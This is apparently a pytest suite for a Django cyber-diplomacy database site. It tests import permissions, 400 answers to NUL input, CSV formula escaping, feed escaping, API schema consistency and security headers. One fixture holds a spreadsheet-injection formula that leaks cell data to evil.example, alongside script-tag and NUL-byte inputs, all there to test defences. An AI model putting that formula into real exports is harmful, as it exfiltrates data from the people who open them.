"""Hardening: the workflow holds in imports and reference records, bad input answers 4xx,
exports and feeds cannot carry active content, the schema agrees with the server, and the
site publishes its robots.txt, security.txt, Permissions-Policy and short admin sessions."""

import io
import json

import pytest
from django.urls import reverse

from agreements.models import Agreement
from core.models import Status
from tests.test_workflow import CSV_HEADER, import_csv

# -- Imports follow the workflow ---------------------------------------------------


def row_for(agreement: Agreement, summary: str, status: str) -> str:
    """One CSV row (CSV_HEADER's columns) for an existing agreement, with a new summary."""
    a = agreement
    return (
        f"{a.slug},{a.title},{a.short_title},{a.kind},{a.reach},{int(a.legally_binding)},{a.symbol},"
        f"{a.adopted},{a.entry_into_force},{a.ended},{a.legal_status},"
        f"{a.status_as_of.isoformat()},{summary},{a.description},{status}\n"
    )


def confirm_values(response) -> dict:
    """The hidden fields of the dry run's confirm form, as the browser would post them."""
    form = response.context["confirm_form"]
    return {
        key: form[key].value()
        for key in ("import_file_name", "original_file_name", "format", "resource")
    }


@pytest.mark.django_db
@pytest.mark.parametrize("old", [Status.PUBLISHED, Status.ARCHIVED])
@pytest.mark.parametrize("new", ["", Status.DRAFT, Status.REVIEW])
def test_an_editor_import_cannot_unpublish_or_rewrite_a_public_record(
    editor_client, graph, old, new
):
    agreement = graph["agreement"]
    Agreement.objects.filter(pk=agreement.pk).update(status=old)
    agreement.refresh_from_db()
    response = import_csv(editor_client, CSV_HEADER + row_for(agreement, "Editor's text.", new))
    html = response.content.decode()
    assert response.status_code == 200
    assert "only reviewers can change or unpublish it" in html  # the row's reason
    assert "confirm_form" not in response.context or not response.context["confirm_form"]
    agreement.refresh_from_db()
    assert agreement.status == old and agreement.summary != "Editor's text."


@pytest.mark.django_db
def test_the_real_import_refuses_an_editor_too(editor_client, reviewer, graph):
    """Even with a confirm form from a reviewer's dry run, an editor's import changes nothing."""
    from django.test import Client

    agreement = graph["agreement"]
    reviewer_client = Client()
    reviewer_client.force_login(reviewer)
    dry_run = import_csv(reviewer_client, CSV_HEADER + row_for(agreement, "Editor's text.", ""))
    editor_client.post(
        reverse("admin:agreements_agreement_process_import"), confirm_values(dry_run)
    )
    agreement.refresh_from_db()
    assert agreement.status == Status.PUBLISHED and agreement.summary != "Editor's text."


@pytest.mark.django_db
def test_a_reviewer_may_import_a_public_record_back_to_draft(reviewer_client, graph):
    agreement = graph["agreement"]
    dry_run = import_csv(reviewer_client, CSV_HEADER + row_for(agreement, "Reviewed text.", ""))
    assert dry_run.context["confirm_form"] is not None
    reviewer_client.post(
        reverse("admin:agreements_agreement_process_import"), confirm_values(dry_run)
    )
    agreement.refresh_from_db()
    assert agreement.status == Status.DRAFT and agreement.summary == "Reviewed text."


@pytest.mark.django_db
def test_an_editor_still_imports_over_a_draft(editor_client, graph):
    draft = graph["draft_agreement"]
    dry_run = import_csv(editor_client, CSV_HEADER + row_for(draft, "Better draft.", "review"))
    editor_client.post(
        reverse("admin:agreements_agreement_process_import"), confirm_values(dry_run)
    )
    draft.refresh_from_db()
    assert draft.status == Status.REVIEW and draft.summary == "Better draft."


# -- Sources and themes that public records use are the reviewers' ------------------


def source_form(source, **changes) -> dict:
    data = {
        "key": source.key,
        "title": source.title,
        "publisher": source.publisher,
        "url": source.url,
        "date": source.date,
        "symbol": source.symbol,
    }
    return {**data, **changes}


def theme_form(theme, **changes) -> dict:
    return {"name": theme.name, "slug": theme.slug, "description": theme.description, **changes}


def admin_url(obj, action: str = "change") -> str:
    opts = obj._meta
    return reverse(f"admin:{opts.app_label}_{opts.model_name}_{action}", args=[obj.pk])


@pytest.mark.django_db
def test_an_editor_cannot_change_a_source_or_theme_that_public_records_use(editor_client, graph):
    source, theme = graph["source"], graph["theme"]
    page = editor_client.get(admin_url(source))
    assert page.status_code == 200 and 'name="title"' not in page.content.decode()  # read-only
    response = editor_client.post(admin_url(source), source_form(source, title="Rewritten"))
    assert response.status_code == 403
    response = editor_client.post(admin_url(theme), theme_form(theme, name="Renamed"))
    assert response.status_code == 403
    source.refresh_from_db()
    theme.refresh_from_db()
    assert source.title != "Rewritten" and theme.name != "Renamed"


@pytest.mark.django_db
def test_an_editor_adds_sources_and_themes_and_changes_those_only_drafts_use(editor_client, graph):
    from reference.models import Citation, Source, Theme

    response = editor_client.post(
        reverse("admin:reference_source_add"),
        source_form(graph["source"], key="new-source", title="A new source"),
    )
    assert response.status_code == 302
    fresh = Source.objects.get(key="new-source")
    Citation.objects.create(record=graph["draft_agreement"], source=fresh)
    response = editor_client.post(admin_url(fresh), source_form(fresh, title="Better title"))
    assert response.status_code == 302
    fresh.refresh_from_db()
    assert fresh.title == "Better title"
    assert fresh.history.count() == 2  # added, then changed

    theme = Theme.objects.create(name="Draft topic", slug="draft-topic", description="Draft.")
    graph["draft_agreement"].themes.add(theme)
    response = editor_client.post(admin_url(theme), theme_form(theme, name="Drafted topic"))
    assert response.status_code == 302
    theme.refresh_from_db()
    assert theme.name == "Drafted topic" and theme.history.first().name == "Drafted topic"


@pytest.mark.django_db
def test_an_archived_record_makes_its_source_the_reviewers_too(editor_client, graph):
    from reference.models import Citation, Source

    source = Source.objects.create(key="archived-only", title="Old", publisher="P", date="2001")
    archived = graph["draft_agreement"]
    Agreement.objects.filter(pk=archived.pk).update(status=Status.ARCHIVED)
    Citation.objects.create(record=archived, source=source)
    response = editor_client.post(admin_url(source), source_form(source, title="New"))
    assert response.status_code == 403


@pytest.mark.django_db
def test_a_reviewer_changes_a_source_and_theme_that_public_records_use(reviewer_client, graph):
    source, theme = graph["source"], graph["theme"]
    response = reviewer_client.post(admin_url(source), source_form(source, title="Corrected"))
    assert response.status_code == 302
    response = reviewer_client.post(admin_url(theme), theme_form(theme, description="Clearer."))
    assert response.status_code == 302
    source.refresh_from_db()
    theme.refresh_from_db()
    assert source.title == "Corrected" and theme.description == "Clearer."
    assert source.history.first().title == "Corrected"
    assert theme.history.first().description == "Clearer."


@pytest.mark.django_db
def test_deleting_a_used_theme_needs_the_reviewers_permission_too(client, graph):
    """Deleting a theme would strip it from every public record that carries it."""
    from django.contrib.auth.models import Permission, User

    from reference.models import Theme, ThemedItem

    user = User.objects.create_user("deleter", password="a-long-test-password", is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(codename__in=["view_theme", "change_theme", "delete_theme"])
    )
    client.force_login(user)
    theme = graph["theme"]
    used_by = ThemedItem.objects.filter(tag=theme).count()
    assert client.post(admin_url(theme, "delete"), {"post": "yes"}).status_code == 403
    client.post(
        reverse("admin:reference_theme_changelist"),
        {"action": "delete_selected", "_selected_action": [theme.pk], "post": "yes"},
    )
    assert ThemedItem.objects.filter(tag=theme).count() == used_by

    unused = Theme.objects.create(name="Unused", slug="unused", description="Nobody uses it.")
    response = client.post(admin_url(unused, "delete"), {"post": "yes"})
    assert response.status_code == 302 and not Theme.objects.filter(slug="unused").exists()

    user.user_permissions.add(Permission.objects.get(codename="publish_theme"))
    user = User.objects.get(pk=user.pk)  # forget the cached permissions
    client.force_login(user)
    response = client.post(admin_url(theme, "delete"), {"post": "yes"})
    assert response.status_code == 302 and not Theme.objects.filter(pk=theme.pk).exists()


@pytest.mark.django_db
def test_reviewers_hold_the_reference_publish_permissions_and_editors_do_not():
    from editorial.roles import setup_roles

    groups = setup_roles()
    for codename in ("publish_source", "publish_theme"):
        assert groups["reviewer"].permissions.filter(codename=codename).exists()
        assert groups["administrator"].permissions.filter(codename=codename).exists()
        assert not groups["editor"].permissions.filter(codename=codename).exists()


# -- NUL and undecodable input answer 400 everywhere -------------------------------

NUL_URLS = [
    "/search/?q=%00",
    "/search/?q=a%00b",
    "/search/?q=a%00b&format=csv",
    "/search/?q%00=cyber",
    "/agreements/?q=%00&format=csv",
    "/agreements/?theme=%00",
    "/norms/?kind=a%00",
    "/agreements/agreement-0/?ref=%00",
    "/search/?q=%ff%fe",  # not UTF-8
]


@pytest.mark.django_db
@pytest.mark.parametrize("url", NUL_URLS)
def test_a_nul_or_undecodable_parameter_gets_the_sites_400_page(client, graph, url):
    response = client.get(url)
    assert response.status_code == 400
    assert "400.html" in [t.name for t in response.templates]
    assert response["Content-Security-Policy"]  # the page keeps the site's headers


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/agreements/?search=%00",
        "/api/v1/agreements/?theme=a%00",
        "/api/v1/agreements/agreement-0/?x=%00",
        "/api/v1/agreements/?q=%ff",
    ],
)
def test_a_nul_or_undecodable_parameter_gets_a_json_400_from_the_api(client, graph, url):
    response = client.get(url)
    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    # The API's documented error body: each parameter in error with its messages.
    errors = response.json()
    assert errors and all(
        isinstance(messages, list) and all(isinstance(m, str) for m in messages)
        for messages in errors.values()
    )


@pytest.mark.django_db
def test_a_posted_nul_gets_a_400(client, graph):
    response = client.post(reverse("admin:login"), {"username": "a\x00b", "password": "x"})
    assert response.status_code == 400


@pytest.mark.django_db
def test_ordinary_accented_input_still_works(client, graph):
    assert client.get("/search/?q=%C3%A9t%C3%A9").status_code == 200
    assert client.get("/search/", {"q": "coopération"}).status_code == 200


# -- An id that cannot be one is a form error or a 404 in the admin -----------------


def with_one_party(agreement, **row) -> dict:
    """The agreement's change form with one new party row."""
    from tests.test_workflow import agreement_form, inline_management

    data = {**agreement_form(agreement), **inline_management("participations", 1)}
    party = dict.fromkeys(
        ("country", "body", "signed", "consent_kind", "consent", "entry_into_force", "withdrawn"),
        "",
    )
    party.update(as_of="2026-11-01", note="", **row)
    data.update({f"participations-0-{key}": value for key, value in party.items()})
    return data


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["abc", "1.5"])
def test_a_party_country_that_is_not_an_id_is_a_form_error(reviewer_client, graph, value):
    draft = graph["draft_agreement"]
    parties = draft.participations.count()
    response = reviewer_client.post(admin_url(draft), with_one_party(draft, country=value))
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()
    assert draft.participations.count() == parties


@pytest.mark.django_db
def test_a_framework_that_is_not_an_id_is_a_form_error(reviewer_client, graph):
    from tests.test_workflow import inline_management

    norm = graph["draft_norm"]
    data = {
        "title": norm.title,
        "slug": norm.slug,
        "summary": norm.summary,
        "status": norm.status,
        "framework": "abc",
        "reference": norm.reference,
        "position": "0",
        **inline_management("reference-citation-content_type-object_id"),
        **inline_management("reference-themeditem-content_type-object_id"),
    }
    response = reviewer_client.post(admin_url(norm), data)
    assert response.status_code == 200
    assert "Select a valid choice" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "agreements/agreement/abc/history/",
        "agreements/agreement/abc/history/1/",
        "agreements/agreement/{pk}/history/abc/",
        "reference/source/abc/change/",
    ],
)
def test_an_admin_url_with_an_id_that_is_not_one_answers_404(reviewer_client, graph, path):
    url = reverse("admin:index") + path.format(pk=graph["agreement"].pk)
    assert reviewer_client.get(url).status_code == 404


@pytest.mark.django_db
def test_an_autocomplete_page_beyond_any_table_answers_404(reviewer_client, graph):
    params = {"term": "a", "app_label": "agreements", "model_name": "participation"}
    params.update(field_name="country", page="99999999999999999999")
    assert reviewer_client.get(reverse("admin:autocomplete"), params).status_code == 404


# -- CSV exports cannot carry a formula ----------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def csv_rows(response) -> list[dict]:
    import csv

    text = response.getvalue().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, graph):
    agreement = graph["agreement"]
    agreement.title = FORMULA
    agreement.summary = "+1 vote; @SUM(A1:A9)"
    agreement.symbol = "-2+3"
    agreement.save()
    graph["theme"].name = "\tTabbed"  # a list cell starts with its first theme
    graph["theme"].save()

    response = client.get(reverse("agreements:list"), {"format": "csv"})
    row = next(r for r in csv_rows(response) if r["slug"] == agreement.slug)
    assert row["title"] == "'" + FORMULA
    assert row["summary"] == "'+1 vote; @SUM(A1:A9)"
    assert row["symbol"] == "'-2+3"
    assert row["themes"].startswith("'\tTabbed")
    assert row["legally_binding"] == "yes" and row["url"].startswith("http")  # others untouched

    data = json.loads(client.get(reverse("agreements:list"), {"format": "json"}).getvalue())
    record = next(r for r in data["results"] if r["slug"] == agreement.slug)
    assert record["title"] == FORMULA and record["symbol"] == "-2+3"  # JSON is data, unchanged


@pytest.mark.django_db
def test_a_search_export_neutralises_formulas_too(client, graph):
    agreement = graph["agreement"]
    agreement.title = "=1+1 Budapest"
    agreement.save()
    response = client.get(reverse("search"), {"q": "Budapest", "format": "csv"})
    titles = [row["title"] for row in csv_rows(response)]
    assert "'=1+1 Budapest" in titles


# -- Feeds declare summaries as text ------------------------------------------------

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.mark.django_db
@pytest.mark.parametrize("feed", ["feed", "themes:feed"])
def test_feed_summaries_are_text_so_markup_stays_literal(client, graph, feed):
    from xml.etree import ElementTree

    agreement = graph["agreement"]
    agreement.summary = "States agree <b>not</b> to <script>attack</script> & more."
    agreement.save()
    args = [graph["theme"].slug] if feed == "themes:feed" else []
    response = client.get(reverse(feed, args=args))
    body = response.content.decode()
    assert "<b>not</b>" not in body and "&lt;b&gt;not&lt;/b&gt;" in body

    entries = ElementTree.fromstring(response.content).iter(f"{ATOM}entry")
    summaries = {e.findtext(f"{ATOM}id"): e.find(f"{ATOM}summary") for e in entries}
    assert summaries and all(s.get("type") == "text" for s in summaries.values())
    ours = [s for key, s in summaries.items() if key.endswith(agreement.get_absolute_url())]
    assert ours[0].text == agreement.summary  # the reader shows exactly what was typed


# -- The API schema and the server agree ---------------------------------------------


def api_schema(client) -> dict:
    response = client.get("/api/v1/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert response.status_code == 200
    return response.json()


def schema_accepts(parameter: dict, raw: str) -> bool:
    """Whether the query value ``raw`` is valid for an OpenAPI query parameter."""
    from jsonschema import Draft202012Validator

    def typed(schema: dict, text: str):
        kind = schema.get("type")
        try:
            return int(text) if kind == "integer" else float(text) if kind == "number" else text
        except ValueError:
            return None  # not of the type: no value can stand for it

    schema = parameter["schema"]
    if "anyOf" in schema:
        return any(schema_accepts({"schema": one}, raw) for one in schema["anyOf"])
    items = schema["items"] if schema.get("type") == "array" else schema
    value = typed(items, raw)
    if value is None:
        return False
    return Draft202012Validator(schema).is_valid([value] if items is not schema else value)


AGREEMENT_CASES = [
    ("agreements", "theme", ""),
    ("agreements", "party", ""),
    ("agreements", "norm", ""),
    ("bodies", "member", ""),
    ("bodies", "theme", ""),
    ("norms", "framework", ""),
    ("norms", "theme", ""),
    ("agreements", "page", "0"),
    ("agreements", "page", "1"),
    ("agreements", "year_from", "0"),
    ("agreements", "year_to", "0"),
    ("agreements", "year_from", "1800"),
    ("agreements", "year_to", "2201"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("collection", "name", "value"), AGREEMENT_CASES)
def test_the_schema_accepts_a_value_exactly_when_the_api_does(
    client, graph, collection, name, value
):
    path = f"/api/v1/{collection}/"
    parameters = {p["name"]: p for p in api_schema(client)["paths"][path]["get"]["parameters"]}
    response = client.get(path, {name: value}, HTTP_ACCEPT="application/json")
    assert schema_accepts(parameters[name], value) == (response.status_code == 200), (
        response.status_code,
        parameters[name]["schema"],
    )


@pytest.mark.django_db
def test_an_empty_value_the_schema_allows_is_never_a_400(client, graph):
    """Every parameter of every list, sent empty: what the schema accepts, the API serves."""
    for path, operations in api_schema(client)["paths"].items():
        for parameter in operations.get("get", {}).get("parameters", []):
            if parameter["in"] != "query" or not schema_accepts(parameter, ""):
                continue
            response = client.get(path, {parameter["name"]: ""}, HTTP_ACCEPT="application/json")
            assert response.status_code == 200, (path, parameter["name"], response.content)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "/agreements/?theme=&party=&norm=&kind=&status=&region=",
        "/bodies/?member=&theme=&kind=",
        "/norms/?framework=&theme=&kind=",
        "/agreements/?theme=&format=csv",
        "/search/?q=cyber&theme=",
    ],
)
def test_an_empty_choice_on_a_page_means_no_filter(client, graph, url):
    assert client.get(url).status_code == 200


@pytest.mark.django_db
def test_an_empty_choice_beside_a_real_one_still_filters(client, graph):
    other = graph["theme"].__class__.objects.create(name="Unused", slug="unused", description=".")
    data = client.get("/api/v1/agreements/", {"theme": ["", other.slug]}).json()
    assert data["count"] == 0
    data = client.get("/api/v1/agreements/", {"theme": ["", graph["theme"].slug]}).json()
    assert data["count"] > 0


# -- robots.txt, security.txt, Permissions-Policy, short staff sessions ------------------


def text_fields(response) -> list[tuple[str, str]]:
    lines = response.content.decode().splitlines()
    return [tuple(part.strip() for part in line.split(":", 1)) for line in lines if ":" in line]


@pytest.mark.django_db
def test_robots_txt_keeps_crawlers_out_of_the_admin_and_docs_and_names_the_sitemap(client):
    response = client.get("/robots.txt")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/plain")
    fields = text_fields(response)
    assert ("User-agent", "*") in fields
    disallowed = {value for name, value in fields if name == "Disallow"}
    assert disallowed == {"/admin/", "/api/v1/docs/"}
    assert ("Sitemap", "http://testserver/sitemap.xml") in fields
    assert client.get("/sitemap.xml").status_code == 200


@pytest.mark.django_db
def test_security_txt_names_the_contact_an_expiry_within_a_year_and_its_address(client, settings):
    import datetime

    from django.utils import timezone

    settings.SECURITY_CONTACT = "mailto:security@cyberdiplo.example"
    response = client.get("/.well-known/security.txt")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/plain")
    fields = dict(text_fields(response))
    assert fields["Contact"] == "mailto:security@cyberdiplo.example"
    assert fields["Canonical"] == "http://testserver/.well-known/security.txt"
    expires = datetime.datetime.fromisoformat(fields["Expires"])
    ahead = expires - timezone.now()
    assert datetime.timedelta(days=300) < ahead <= datetime.timedelta(days=365)


@pytest.mark.django_db
def test_without_a_security_contact_there_is_no_security_txt(client, settings):
    settings.SECURITY_CONTACT = ""
    assert client.get("/.well-known/security.txt").status_code == 404


def test_a_bad_security_contact_fails_at_startup():
    import os
    import subprocess
    import sys

    env = {**os.environ, "SECURITY_CONTACT": "call the office"}
    result = subprocess.run(
        [sys.executable, "-c", "import django, os; "
         "os.environ['DJANGO_SETTINGS_MODULE']='cyberdiplo.settings'; django.setup()"],
        env=env, capture_output=True, text=True,
    )  # fmt: skip
    assert result.returncode != 0 and "SECURITY_CONTACT" in result.stderr


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    ["/", "/agreements/", "/api/v1/", "/robots.txt", "/no-such-page/", "/search/?q=%00",
     "/admin/login/", "/static/css/site.css"],
)  # fmt: skip
def test_every_response_carries_a_permissions_policy(client, graph, url):
    policy = client.get(url)["Permissions-Policy"]
    features = dict(item.split("=", 1) for item in policy.split(", "))
    for feature in ("camera", "microphone", "geolocation", "payment", "usb", "browsing-topics"):
        assert features[feature] == "()"


def session_ends_in(client) -> float:
    """Seconds from now until the client's session expires, as the server stores it."""
    from django.utils import timezone

    return (client.session.get_expiry_date() - timezone.now()).total_seconds()


@pytest.mark.django_db
def test_a_staff_login_gets_a_session_of_admin_session_age(client, settings, editor):
    settings.ADMIN_SESSION_AGE = 3600
    response = client.post(
        reverse("admin:login"),
        {"username": editor.username, "password": "a-long-test-password", "next": "/admin/"},
    )
    assert response.status_code == 302
    assert 3500 < session_ends_in(client) <= 3600
    assert 3500 < response.cookies[settings.SESSION_COOKIE_NAME]["max-age"] <= 3600
    client.get(reverse("admin:index"))  # a later request does not extend it
    assert session_ends_in(client) <= 3600


@pytest.mark.django_db
@pytest.mark.parametrize("is_staff", [True, False])
def test_only_staff_sessions_get_the_short_age(rf, settings, django_user_model, is_staff):
    from django.contrib.sessions.backends.db import SessionStore
    from django.http import HttpResponse

    from core.middleware import AdminSessionAgeMiddleware

    user = django_user_model.objects.create_user("someone", is_staff=is_staff)
    request = rf.get("/")
    request.session, request.user = SessionStore(), user
    request.session["seen"] = True  # a session being saved, as at login
    AdminSessionAgeMiddleware(lambda request: HttpResponse())(request)
    expected = settings.ADMIN_SESSION_AGE if is_staff else settings.SESSION_COOKIE_AGE
    assert abs(request.session.get_expiry_age() - expected) < 5
    assert settings.ADMIN_SESSION_AGE < settings.SESSION_COOKIE_AGE


@pytest.mark.django_db
@pytest.mark.parametrize("value", ["²", "٣", "0", "-1", "1.5", ""])
def test_a_page_number_that_is_not_a_whole_number_from_1_is_a_400(client, graph, value):
    """Unicode digits pass str.isdigit() but not int(): they once made a 500."""
    assert client.get(reverse("agreements:list"), {"page": value}).status_code == 400
    assert client.get("/api/v1/agreements/", {"page": value}).status_code == 400


@pytest.mark.django_db
def test_a_page_number_past_the_end_however_long_is_a_404(client, graph):
    assert client.get("/api/v1/agreements/", {"page": "9" * 400}).status_code == 404
